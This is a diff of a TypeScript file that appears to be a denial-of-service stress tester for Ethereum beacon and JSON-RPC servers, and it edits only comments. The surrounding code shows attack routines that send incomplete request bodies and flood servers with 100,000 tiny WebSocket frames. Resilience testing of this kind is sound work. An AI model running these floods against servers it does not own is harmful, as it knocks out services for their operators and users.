@@ -7,7 +7,7 @@ const MIB = 1024 * 1024;
 const LARGEST_BODY = 32 * MIB;
 /** Maximum number of calls in a batch. */
 const BATCH_CALLS = 1000;
-/** Timeout of an impatient caller. */
+/** Time until a client disconnects without waiting for the response. */
 const HURRY_MILLIS = 500;
 const STATES = "/eth/v1/beacon/states";
 
@@ -80,7 +80,7 @@ async function keepOpen(clients: Clients, count: number, open: () => Promise<voi
   }
 }
 
-/** Bodies without their end, on both servers. */
+/** Incomplete bodies, on both servers. */
 const halfBodies: Attack = (clients) => {
   const { jsonRpcUrl, restUrl } = clients.target;
   const beginning = Buffer.concat([
@@ -165,7 +165,7 @@ const fragments: Attack = (clients) =>
 
 /** Minimal messages or pings in rapid succession. */
 function tinyFrames(opcode: number): Attack {
-  // Masked with zeros, as clients have to mask.
+  // Masked with zeros, since clients must mask frames.
   const frame = Buffer.from([0x80 | opcode, 0x80 | 1, 0, 0, 0, 0, 0x31]);
   const frames = Buffer.concat(Array.from({ length: 100_000 }, () => frame));
   const upgrade = [
